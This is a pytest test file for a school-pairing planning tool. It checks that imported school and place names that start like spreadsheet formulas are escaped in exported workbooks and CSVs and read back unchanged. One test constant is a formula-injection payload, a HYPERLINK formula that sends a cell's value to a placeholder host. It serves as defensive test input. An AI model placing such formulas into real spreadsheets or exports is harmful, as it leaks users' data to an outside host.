"""No formula from data (issue 28): names that begin like a formula arrive through
``plan import`` and leave as text in every workbook and CSV the tool writes, and the tool's
own readers take them back unchanged."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pairing_planner import SolveOptions, read_plan, solve
from pairing_planner.cli import main
from pairing_planner.io.csv_cells import csv_rows, frame_csv, from_csv_cell, to_csv_cell
from pairing_planner.io.sheet_names import PAIRS
from pairing_planner.report.excel import sheet_names
from pairing_planner.report.export import export_plan
from pairing_planner.report.ledger import write_ledger
from tests.conftest import build, instance_dict

DATA = Path(__file__).parent / "data"
ENGLISH = {"LC_ALL": None, "LC_MESSAGES": None, "LANG": "C.UTF-8", "PLAN_LANG": "en"}

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet runs as a formula at the start of a CSV cell (OWASP)."""

LINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
RECIPIENTS = {
    "r1": (LINK, "+平阴县", "小学"),
    "r2": ("-1+2", "+平阴县", "小学"),
    "r3": ("@SUM(A1)", "商河县", "初中"),
    "r4": ("商河县丁村小学", "商河县", "小学"),
}
HELPERS = {"h1": "+济南市第二实验小学", "h2": "=1+1", "h3": "济南市实验初级中学"}
CITY, COUNTY = "=CITY()", "+平阴县"
PHONE = "+86 139 0000 0001"
NAMES = {*(name for name, _county, _stage in RECIPIENTS.values()), *HELPERS.values()}
HOSTILE = {n for n in NAMES | {CITY, COUNTY, PHONE} if n.startswith(FORMULA_STARTS)}


def formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook at ``path`` that holds a formula, as sheet!cell."""
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(path: Path) -> set[str]:
    """Every text cell's value in the workbook at ``path``."""
    book = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def csv_cells(text: str) -> list[str]:
    """Every cell of a CSV text, as written."""
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def assert_no_formula_starts(text: str) -> None:
    """No text cell of the CSV begins like a formula; numbers (a negative cost) may."""
    for cell in csv_cells(text):
        if cell.startswith(FORMULA_STARTS):
            float(cell)


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'abc", "'abc"),
        ("a=1", "a=1"),
        ("菏泽市", "菏泽市"),
        ("", ""),
    ],
)
def test_a_cell_is_marked_and_read_back(name: str, written: str) -> None:
    """A text cell that starts like a formula gains one apostrophe and loses it again on
    reading; an apostrophe of the name's own stays."""
    assert to_csv_cell(name) == written
    assert from_csv_cell(written) == name


def test_numbers_stay_numbers() -> None:
    """A negative number is written as a number, in a frame and in rows."""
    frame = pd.DataFrame({"name": ["-x"], "change": [-12.5], "count": [-3]})
    assert frame_csv(frame).splitlines()[1] == "'-x,-12.5,-3"
    assert csv_rows([["-x", -12.5, -3]]) == "'-x,-12.5,-3\r\n"


NAME_STARTS = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''-", "\t", "\r", " ="])
NAMES_ANY = st.builds(
    lambda start, rest: start + rest, NAME_STARTS, st.text(st.characters(), max_size=12)
)


@settings(max_examples=200, deadline=None)
@given(names=st.lists(NAMES_ANY, min_size=1, max_size=5))
@example(names=[LINK, "-1+2", "+86", "@SUM(A1)", "'=x"])
@example(names=["\t=1", "\r=1", "a\r\nb", ""])
def test_any_name_through_a_csv_comes_back_unchanged(names: list[str]) -> None:
    """Any Unicode name, written to a CSV with a negative number beside it and read back
    with the CSV reader, is the same name; no text cell begins like a formula."""
    frame = pd.DataFrame({"name": names, "change": [-1.5] * len(names)})
    text = frame_csv(frame)
    assert_no_formula_starts(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [from_csv_cell(row[0]) for row in rows[1:]] == names
    assert [row[1] for row in rows[1:]] == ["-1.5"] * len(names)


XML_TEXT = st.characters(
    exclude_categories=("Cs",),
    exclude_characters=[*(chr(c) for c in range(0x20) if chr(c) not in "\t\n"), "\ufffe", "\uffff"],
)
"""What a cell of a workbook holds as itself: the C0 controls but tab and line feed, and
U+FFFE and U+FFFF, are written as ``_xHHHH_`` (XML cannot hold them), which Excel shows as
the character and openpyxl leaves as written."""


@settings(max_examples=40, deadline=None)
@example(names=[LINK, "=1+1", "{=SUM(A1)}", "http://x.example", "007", "-1", " lead "])
@given(
    names=st.lists(
        st.builds(
            lambda s, r: s + r,
            NAME_STARTS.filter(lambda s: "\r" not in s),
            st.text(XML_TEXT, max_size=12),
        ).filter(bool),
        min_size=1,
        max_size=4,
    )
)
def test_any_name_in_a_workbook_is_a_text_cell(
    names: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Any name written to a workbook is a text cell holding exactly the name, never a
    formula, a link or a number."""
    path = tmp_path_factory.mktemp("book") / "names.xlsx"
    write_ledger(path, {PAIRS: pd.DataFrame({"name": names, "change": [-1.5] * len(names)})})
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(names)
    assert [c.value for c in cells] == names
    assert all(c.hyperlink is None for c in cells)


@dataclass(frozen=True)
class Imported:
    """The tiny instance imported from hostile lists, solved, and its files."""

    folder: Path
    instance: Path
    result: Path


def _lists(folder: Path) -> tuple[Path, Path, Path]:
    """A template with a city and a county whose names start like formulas, and the two
    school lists a bureau might get, with such names and a phone number."""
    template = folder / "template.yaml"
    text = (DATA / "ok_small.yaml").read_text(encoding="utf-8")
    text = text.replace("name: 济南市,", f'name: "{CITY}",').replace(
        "name: 平阴县,", f'name: "{COUNTY}",'
    )
    template.write_text(text, encoding="utf-8")
    recipients, helpers = folder / "recipients.csv", folder / "helpers.csv"
    rows = [["序号", "县（市、区）", "学段", "学校名称", "负责人", "联系电话"]]
    for i, (name, county, stage) in enumerate(RECIPIENTS.values(), start=1):
        rows.append(
            [str(i), county, stage, name, "张三" if i == 1 else "", PHONE if i == 1 else ""]
        )
    recipients.write_text(_plain_csv(rows), encoding="utf-8")
    rows = [["编号", "市", "学段", "学校名称", "纬度", "经度", "办学水平", "帮扶学校数"]]
    stages = {"h1": "小学", "h2": "小学", "h3": "初中"}
    for i, (school, name) in enumerate(HELPERS.items()):
        rows.append([school, CITY, stages[school], name, "36.65", f"{117.1 + i / 100}", "90", "2"])
    helpers.write_text(_plain_csv(rows), encoding="utf-8")
    return template, recipients, helpers


def _plain_csv(rows: list[list[str]]) -> str:
    """Rows as a bureau's CSV holds them: no mark, the names as typed."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def invoke(*args: str) -> str:
    ran = CliRunner(env=ENGLISH).invoke(main, list(args), catch_exceptions=False)
    assert ran.exit_code == 0, ran.output
    return ran.stdout


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Imported:
    folder = tmp_path_factory.mktemp("hostile")
    template, recipients, helpers = _lists(folder)
    instance = folder / "t.yaml"
    invoke(
        "import",
        str(template),
        "--recipients",
        str(recipients),
        "--helpers",
        str(helpers),
        "-o",
        str(instance),
    )
    invoke("solve", str(instance), "--plans", "2", "--out", str(folder), "--quiet")
    return Imported(folder, instance, folder / "t")


def test_imported_names_are_text_in_every_workbook(imported: Imported) -> None:
    """The ledger (contacts too), the official list and the R4 report hold every name as a
    text cell and not one formula; the report's sheet is named for the city as it is."""
    written = {}
    for form in ("ledger", "list", "report"):
        target = imported.folder / f"{form}.xlsx"
        extra = ["--with-contacts"] if form == "ledger" else []
        invoke("export", str(imported.result), "--to", str(target), "--form", form, *extra)
        written[form] = target
        assert formula_cells(target) == []
        assert NAMES | {CITY, COUNTY} <= texts(target)
    assert PHONE in texts(written["ledger"])
    report = openpyxl.load_workbook(written["report"])
    assert report.sheetnames == [CITY]
    assert report[CITY]["A1"].data_type == "s" and report[CITY]["A1"].value.startswith(CITY)


def test_imported_names_are_marked_in_every_csv_and_read_back(imported: Imported) -> None:
    """plan-K.csv, export to .csv, compare --csv and the contacts file start no text cell
    with = + - @; the names are there behind their mark, and verify reads the plan CSV and
    the ledger back to the plan that was solved."""
    files = [imported.result / "plan-1.csv", imported.folder / "t.contacts.csv"]
    exported = imported.folder / "plan.csv"
    invoke("export", str(imported.result), "--to", str(exported))
    files.append(exported)
    texts_written = [p.read_text(encoding="utf-8-sig") for p in files]
    texts_written.append(invoke("compare", str(imported.result), "--csv"))
    for text in texts_written:
        assert_no_formula_starts(text)
    read = {from_csv_cell(c) for text in texts_written for c in csv_cells(text)}
    assert read >= HOSTILE
    assert "'" + LINK in csv_cells(texts_written[0])
    solved = read_plan(imported.result / "plans.json").pairs
    ledger = imported.folder / "ledger-again.xlsx"
    invoke("export", str(imported.result), "--to", str(ledger))
    for path in (imported.result / "plan-1.csv", exported, ledger):
        assert sorted(read_plan(path).pairs) == sorted(solved)
        assert "The plan satisfies every rule" in invoke(
            "verify", str(imported.instance), str(path)
        )


def test_the_calendar_sheet_holds_names_as_text_and_progress_reads_it(imported: Imported) -> None:
    """calendar.xlsx holds the names as text cells, no formula; plan progress reads it back
    and counts every duty."""
    out = imported.folder / "calendar"
    invoke(
        "calendar",
        str(imported.result),
        "--school-year",
        "2016",
        "--time-limit",
        "3",
        "--no-ics",
        "--out",
        str(out),
    )
    sheet = out / "calendar.xlsx"
    assert formula_cells(sheet) == []
    assert texts(sheet) >= NAMES
    rows = openpyxl.load_workbook(sheet).worksheets[0].max_row - 1
    found = json.loads(
        invoke("progress", str(imported.instance), str(sheet), "--today", "2016-09-01", "--json")
    )
    program = next(r for r in found["rows"] if r["level"] == "program")
    assert program["duties"] == rows > 0


def test_generated_tables_mark_names_and_load_them_back(tmp_path: Path) -> None:
    """A school table the tool writes beside an instance marks a name that starts like a
    formula, and loading the instance takes the mark off."""
    from pairing_planner import instance_from_data, load_instance
    from pairing_planner.instance.yaml_files.dump import instance_yaml, school_table

    data = instance_from_data(_two_cities(["City A", "City B"])).data
    hostile = data.model_copy(
        update={
            "recipients": [
                data.recipients[0].model_copy(update={"name": LINK}),
                *data.recipients[1:],
            ]
        }
    )
    table = school_table(hostile, "recipients")
    assert_no_formula_starts(table)
    (tmp_path / "r.csv").write_text(table, encoding="utf-8")
    (tmp_path / "i.yaml").write_text(
        instance_yaml(hostile, {"recipients": "r.csv"}), encoding="utf-8"
    )
    loaded = load_instance(tmp_path / "i.yaml")
    assert loaded.recipients[hostile.recipients[0].id].name == LINK


def _two_cities(names: list[str]) -> dict[str, Any]:
    """A tiny instance of two cities (named ``names``), each with a helper near three
    recipients, so that each city helps schools of its own."""
    helpers = [_school(f"h{c}", f"c{c}k0", 116.0 + c) | {"capacity": 3} for c in range(2)]
    recipients = [
        _school(f"r{c}{i}", f"c{c}k1", 116.0 + c + i / 100) for c in range(2) for i in range(3)
    ]
    rules = [
        {"kind": "coverage", "clause": "S1", "mode": "exactly_one"},
        {"kind": "capacity", "clause": "S1"},
    ]
    data = instance_dict(helpers, recipients, rules)
    cities = iter(names)
    for place in data["places"]:
        if place["kind"] == "city":
            place["name"] = next(cities)
    return data


def _school(school: str, place: str, lon: float) -> dict[str, Any]:
    return {
        "id": school,
        "name": f"school {school}",
        "place": place,
        "stages": ["junior"],
        "lat": 36.0,
        "lon": lon,
        "score": 60,
    }


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["=CITY()"], ["=CITY()"]),
        (["a/b\\c:d[e]f?g*h"], ["a／b＼c：d［e］f？g＊h"]),
        (["'quoted'", "''"], ["quoted", "Sheet2"]),
        (["", "History", "history"], ["Sheet1", "History (2)", "history (3)"]),
        (["x" * 40, "x" * 35], ["x" * 31, "x" * 27 + " (2)"]),
        (["😀" * 20], ["😀" * 15]),
        (["a\x1b[31mb"], ["a［31mb"]),
        (["a" + "'" * 40], ["a"]),
    ],
)
def test_sheet_names_from_data_are_valid_and_unique(names: list[str], expected: list[str]) -> None:
    """Refused characters become full-width, apostrophes leave the ends, a long name is cut
    to 31 UTF-16 units, and a name taken (case ignored, "History" always) takes a number."""
    assert sheet_names(names) == expected


@given(st.lists(st.text(max_size=40), max_size=6))
@settings(max_examples=100, deadline=None)
def test_any_sheet_names_are_valid_and_distinct(names: list[str]) -> None:
    """Whatever the names, the sheet names are distinct without case and within Excel's
    rules."""
    found = sheet_names(names)
    assert len({n.casefold() for n in found}) == len(found) == len(names)
    for name in found:
        assert name and len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("/\\:[]?*") and name[0] != "'" and name[-1] != "'"
        assert name.casefold() != "history"


def test_two_cities_sharing_31_characters_get_two_report_sheets(tmp_path: Path) -> None:
    """The R4 report of two cities whose names share their first 31 characters and hold
    characters Excel refuses in a sheet name: two sheets, each city's title in its A1."""
    long = "某某省某某市" * 6
    instance = build(_two_cities([long + "甲", long + "乙/东:区"]))
    result = solve(instance, SolveOptions(time_limit=10))
    target = export_plan(instance, result, result.plans[0], tmp_path / "r.xlsx", form="report")
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == [long[:31], long[:27] + " (2)"]
    assert [sheet["A1"].value.startswith(long) for sheet in book.worksheets] == [True, True]
    assert formula_cells(target) == []
